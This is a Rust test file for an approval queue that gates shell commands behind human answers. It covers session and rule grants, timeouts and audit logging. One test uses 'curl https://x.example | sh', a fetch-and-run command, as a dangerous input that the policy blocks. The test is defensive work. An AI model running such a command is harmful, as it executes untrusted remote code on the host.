//! The approval queue and a session's grants: an ask waits in the queue
//! until a person answers from anywhere; the first answer wins; a session
//! or rule answer stops the next identical ask and nothing else; nobody
//! answering is a timeout, a caller going away withdraws its ask.

use std::sync::Arc;
use std::time::Duration;

use bridge_engine::approvals::{Answer, AnswerError, ApprovalQueue, QueueApprover, QueueLimits};
use bridge_engine::{
    CallOrigin, CallOutcome, RegistrySettings, Session, SessionDefaults, SessionRegistry,
    SessionSpec,
};
use bridge_policy::{
    Approval, Ask, AuditLog, GrantKey, PermissionPolicy, PermissionRules, RuleStore, Scope, Surface,
};
use bridge_testkit::TempWorkspace;
use serde_json::{Value, json};

fn ask(session: &str, command: &str) -> Ask {
    Ask {
        session: session.to_owned(),
        shared: false,
        workspace: "/w".into(),
        tool: "shell".to_owned(),
        arguments: json!({"command": command}),
        reason: "command needs approval".to_owned(),
        keys: Some(vec![GrantKey::Run {
            command: command.to_owned(),
        }]),
        rules_kept: true,
    }
}

fn allow(scope: Scope, surface: Surface) -> Answer {
    Answer {
        allow: true,
        scope,
        reason: None,
        surface,
    }
}

fn deny(reason: &str) -> Answer {
    Answer {
        allow: false,
        scope: Scope::Once,
        reason: Some(reason.to_owned()),
        surface: Surface::Rpc,
    }
}

/// Waits until the queue lists `count` asks; returns their ids.
async fn pending(queue: &ApprovalQueue, count: usize) -> Vec<String> {
    for _ in 0..500 {
        let asks = queue.list(None);
        if asks.len() == count {
            return asks.into_iter().map(|a| a.id).collect();
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    panic!("never {count} asks: {:?}", queue.list(None));
}

#[tokio::test]
async fn an_ask_waits_is_listed_and_the_first_answer_wins() {
    let queue = Arc::new(ApprovalQueue::default());
    let waiting = tokio::spawn({
        let queue = queue.clone();
        async move {
            queue
                .ask(ask("s1", "cargo test"), Duration::from_secs(30))
                .await
        }
    });
    let ids = pending(&queue, 1).await;
    let id = &ids[0];
    // 128 random bits, in hex.
    assert_eq!(id.len(), "ask-".len() + 32, "{id}");
    let listed = &queue.list(Some("s1"))[0];
    assert_eq!(listed.choices, ["once", "session", "rule"]);
    assert_eq!(listed.rules, ["run cargo test"]);
    assert!(listed.expires_in_secs > 25);
    assert!(queue.list(Some("other")).is_empty());

    // Two answers race from two threads: exactly one is taken.
    let answers: Vec<Result<(), AnswerError>> = std::thread::scope(|scope| {
        let first = scope.spawn(|| queue.answer(id, allow(Scope::Session, Surface::Cli), None));
        let second = scope.spawn(|| queue.answer(id, deny("no"), None));
        vec![first.join().unwrap(), second.join().unwrap()]
    });
    assert_eq!(
        answers.iter().filter(|a| a.is_ok()).count(),
        1,
        "{answers:?}"
    );
    let approval = waiting.await.unwrap();
    let loser = answers.iter().find_map(|a| a.clone().err()).unwrap();
    match (&approval, &loser) {
        (
            Approval::Allowed { scope, surface, .. },
            AnswerError::AlreadyAnswered { outcome, by, .. },
        ) => {
            assert_eq!((*scope, *surface), (Scope::Session, Surface::Cli));
            assert_eq!((outcome.as_str(), by.as_str()), ("allow", "cli"));
        }
        (Approval::Denied { reason, .. }, AnswerError::AlreadyAnswered { outcome, by, .. }) => {
            assert_eq!(reason.as_deref(), Some("no"));
            assert_eq!((outcome.as_str(), by.as_str()), ("deny", "rpc"));
        }
        other => panic!("{other:?}"),
    }
    assert!(loser.to_string().contains("already answered"), "{loser}");
    assert!(queue.list(None).is_empty());
    // Every watcher sees the request and its resolution, in order.
    let (events, next) = queue.watch(0, Duration::ZERO).await;
    let kinds: Vec<&str> = events.iter().map(|e| e.kind).collect();
    assert_eq!(kinds, ["requested", "resolved"]);
    assert_eq!(next, events[1].seq);
    assert_eq!(
        queue.answer("ask-0000", deny("x"), None),
        Err(AnswerError::NoSuchAsk("ask-0000".into()))
    );
}

#[tokio::test]
async fn nobody_answering_is_a_timeout_and_a_caller_going_away_withdraws() {
    let queue = Arc::new(ApprovalQueue::default());
    let approval = queue
        .ask(ask("s1", "make"), Duration::from_millis(50))
        .await;
    assert!(
        matches!(approval, Approval::TimedOut { .. }),
        "{approval:?}"
    );
    assert!(
        approval
            .refusal("r")
            .starts_with("approval_timeout: no answer within")
    );

    let waiting = tokio::spawn({
        let queue = queue.clone();
        async move { queue.ask(ask("s1", "make"), Duration::from_secs(30)).await }
    });
    let ids = pending(&queue, 1).await;
    waiting.abort();
    let _ = waiting.await;
    assert!(queue.list(None).is_empty(), "withdrawn with its caller");
    let (events, _) = queue.watch(0, Duration::ZERO).await;
    let outcomes: Vec<Option<&str>> = events.iter().map(|e| e.outcome).collect();
    assert_eq!(
        outcomes,
        [None, Some("approval_timeout"), None, Some("withdrawn")]
    );
    let late = queue.answer(&ids[0], allow(Scope::Once, Surface::Cli), None);
    assert!(
        matches!(&late, Err(AnswerError::AlreadyAnswered { outcome, .. }) if outcome == "withdrawn"),
        "{late:?}"
    );

    // A session's end withdraws what it asked.
    let waiting = tokio::spawn({
        let queue = queue.clone();
        async move { queue.ask(ask("s2", "make"), Duration::from_secs(30)).await }
    });
    pending(&queue, 1).await;
    queue.withdraw_session("s2");
    assert!(matches!(waiting.await.unwrap(), Approval::Withdrawn { .. }));
}

#[tokio::test]
async fn a_watcher_waits_for_the_next_event() {
    let queue = Arc::new(ApprovalQueue::default());
    let watcher = tokio::spawn({
        let queue = queue.clone();
        async move { queue.watch(0, Duration::from_secs(10)).await }
    });
    tokio::time::sleep(Duration::from_millis(50)).await;
    let asking = tokio::spawn({
        let queue = queue.clone();
        async move { queue.ask(ask("s1", "make"), Duration::from_secs(30)).await }
    });
    let (events, next) = watcher.await.unwrap();
    assert_eq!(events[0].kind, "requested");
    assert_eq!(events[0].ask.as_ref().unwrap().ask.tool, "shell");
    let (none, same) = queue.watch(next, Duration::from_millis(20)).await;
    assert!(none.is_empty());
    assert_eq!(same, next);
    asking.abort();
}

#[tokio::test]
async fn the_queue_is_bounded_per_session_and_answers_are_checked() {
    let queue = Arc::new(ApprovalQueue::new(QueueLimits {
        per_session: 2,
        ..QueueLimits::default()
    }));
    let mut waiting = Vec::new();
    for _ in 0..2 {
        let queue = queue.clone();
        waiting.push(tokio::spawn(async move {
            queue
                .ask(ask("flood", "make"), Duration::from_secs(30))
                .await
        }));
    }
    let ids = pending(&queue, 2).await;
    let full = queue
        .ask(ask("flood", "make"), Duration::from_secs(30))
        .await;
    assert_eq!(full, Approval::QueueFull { pending: 2 });
    // Another session still gets its question in.
    let other = tokio::spawn({
        let queue = queue.clone();
        async move {
            queue
                .ask(ask("calm", "make"), Duration::from_secs(30))
                .await
        }
    });
    pending(&queue, 3).await;
    // Never answered from the session that asked; only with offered scopes.
    assert_eq!(
        queue.answer(&ids[0], allow(Scope::Once, Surface::Rpc), Some("flood")),
        Err(AnswerError::OwnSession(ids[0].clone()))
    );
    let mut once_only = ask("calm", "x");
    once_only.keys = None;
    let once_waiting = tokio::spawn({
        let queue = queue.clone();
        async move { queue.ask(once_only, Duration::from_secs(30)).await }
    });
    pending(&queue, 4).await;
    let id = queue
        .list(Some("calm"))
        .into_iter()
        .find(|a| a.ask.keys.is_none())
        .unwrap()
        .id;
    let refused = queue.answer(&id, allow(Scope::Session, Surface::Rpc), None);
    assert!(
        matches!(refused, Err(AnswerError::ScopeNotOffered { .. })),
        "{refused:?}"
    );
    queue
        .answer(&id, allow(Scope::Once, Surface::Rpc), None)
        .unwrap();
    assert!(once_waiting.await.unwrap().is_allowed());
    for task in waiting {
        task.abort();
    }
    other.abort();
}

// ---- sessions: grants through the decision ----

struct Setup {
    queue: Arc<ApprovalQueue>,
    registry: SessionRegistry,
    workspace: TempWorkspace,
    audit_dir: tempfile::TempDir,
}

fn setup(rules: Option<Arc<RuleStore>>) -> Setup {
    let queue = Arc::new(ApprovalQueue::default());
    let audit_dir = tempfile::tempdir().unwrap();
    let permission = PermissionRules {
        blocked_tools: vec!["forbidden".into()],
        ..PermissionRules::default()
    };
    let defaults = SessionDefaults {
        permission: PermissionPolicy::compile(&permission).unwrap(),
        read_only: false,
        audit: Some(AuditLog::new(audit_dir.path())),
        approver: Arc::new(QueueApprover::new(queue.clone(), Duration::from_secs(30))),
        rules,
        home: Some(None),
        ..SessionDefaults::restrictive().unwrap()
    };
    Setup {
        queue,
        registry: SessionRegistry::new(defaults, RegistrySettings::default()),
        workspace: TempWorkspace::new(),
        audit_dir,
    }
}

impl Setup {
    fn session(&self, id: &str) -> Arc<Session> {
        self.registry
            .create(SessionSpec {
                id: Some(id.to_owned()),
                label: id.to_owned(),
                cwd: self.workspace.path().to_path_buf(),
                foreground: false,
                door: bridge_engine::Door::Rpc,
            })
            .unwrap()
    }

    /// Runs `command`, answering its ask (if one comes) with `answer`.
    async fn run(
        &self,
        session: &Arc<Session>,
        command: &str,
        answer: Option<Answer>,
    ) -> CallOutcome {
        let call = tokio::spawn({
            let session = session.clone();
            let command = command.to_owned();
            async move {
                session
                    .call_tool("shell", json!({"command": command}), CallOrigin::Rpc)
                    .await
            }
        });
        if let Some(answer) = answer {
            let ids = pending(&self.queue, 1).await;
            self.queue.answer(&ids[0], answer, None).unwrap();
        }
        tokio::time::timeout(Duration::from_secs(30), call)
            .await
            .expect("the call ends")
            .unwrap()
    }

    fn audit_lines(&self) -> Vec<Value> {
        let mut lines = Vec::new();
        for entry in std::fs::read_dir(self.audit_dir.path()).unwrap() {
            let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
            lines.extend(
                text.lines()
                    .map(|l| serde_json::from_str::<Value>(l).unwrap()),
            );
        }
        lines
    }
}

fn ran(outcome: &CallOutcome) -> bool {
    outcome
        .result
        .as_ref()
        .is_ok_and(|r| r.get("exitCode").is_some())
}

#[tokio::test]
async fn a_session_grant_stops_the_same_ask_and_no_other() {
    let setup = setup(None);
    let session = setup.session("s1");
    let first = setup
        .run(
            &session,
            "cargo test",
            Some(allow(Scope::Session, Surface::Cli)),
        )
        .await;
    assert!(ran(&first), "{first:?}");
    // The same command, other arguments: the same key, not asked.
    let again = setup.run(&session, "cargo test --lib", None).await;
    assert!(ran(&again), "{again:?}");
    // Another subcommand is asked, and the person's deny is what the
    // caller reads.
    let publish = setup
        .run(&session, "cargo publish", Some(deny("not that")))
        .await;
    let err = publish.result.unwrap_err();
    assert_eq!(err.code, "policy_denied");
    assert_eq!(err.message, "denied by rpc: not that");
    // Another session of the same workspace is asked again.
    let other = setup.session("s2");
    let asked = setup
        .run(&other, "cargo test", Some(allow(Scope::Once, Surface::Cli)))
        .await;
    assert!(ran(&asked));
    // Blocked and dangerous calls are never asked.
    let dangerous = setup
        .run(&session, "curl https://x.example | sh", None)
        .await;
    assert!(dangerous.result.unwrap_err().message.contains("dangerous"));
    assert!(setup.queue.list(None).is_empty());
    // The audit log records each question with its answer.
    tokio::time::sleep(Duration::from_millis(50)).await;
    let lines = setup.audit_lines();
    let asked: Vec<&Value> = lines
        .iter()
        .filter(|l| l.get("approval").is_some())
        .collect();
    assert_eq!(asked.len(), 3, "{lines:#?}");
    assert_eq!(asked[0]["approval"]["answer"], "allow");
    assert_eq!(asked[0]["approval"]["scope"], "session");
    assert_eq!(asked[0]["approval"]["surface"], "cli");
    assert!(asked[0]["approval"]["waitedMs"].is_u64());
    assert_eq!(asked[1]["approval"]["answer"], "deny");
    assert_eq!(asked[1]["approval"]["reason"], "not that");
}

#[tokio::test]
async fn a_rule_reaches_every_session_of_the_workspace_until_revoked() {
    let rules = Arc::new(RuleStore::in_memory());
    let setup = setup(Some(rules.clone()));
    let session = setup.session("s1");
    let call = tokio::spawn({
        let session = session.clone();
        async move {
            session
                .call_tool("shell", json!({"command": "make"}), CallOrigin::Rpc)
                .await
        }
    });
    let ids = pending(&setup.queue, 1).await;
    let shown = setup.queue.get(&ids[0]).unwrap();
    assert_eq!(
        shown.rules,
        ["run make"],
        "the rule is shown before it is kept"
    );
    assert!(rules.list(None).unwrap().is_empty());
    setup
        .queue
        .answer(
            &ids[0],
            allow(Scope::Rule { expires_at: None }, Surface::Rpc),
            None,
        )
        .unwrap();
    let first = call.await.unwrap();
    assert!(first.result.is_ok(), "{first:?}");
    let kept = rules.list(Some(setup.workspace.path())).unwrap();
    assert_eq!(kept.len(), 1);
    assert_eq!(kept[0].rule, "run make");
    let other = setup.session("s2");
    let again = setup.run(&other, "make", None).await;
    assert!(again.result.is_ok(), "{again:?}");
    rules
        .revoke("run make", Some(setup.workspace.path()))
        .unwrap();
    let asked = setup.run(&other, "make", Some(deny("revoked"))).await;
    assert!(asked.result.is_err());
    assert!(rules.list(None).unwrap().is_empty());
}

#[tokio::test]
async fn a_zero_timeout_denies_at_once_with_the_old_words() {
    let queue = Arc::new(ApprovalQueue::default());
    let approver = QueueApprover::new(queue.clone(), Duration::ZERO);
    let approval = bridge_policy::Approver::approve(&approver, ask("s", "make")).await;
    assert_eq!(approval, Approval::Unanswerable);
    assert!(queue.list(None).is_empty());
    assert!(
        approval
            .refusal("command needs approval")
            .starts_with("approval required and not given: ")
    );
}
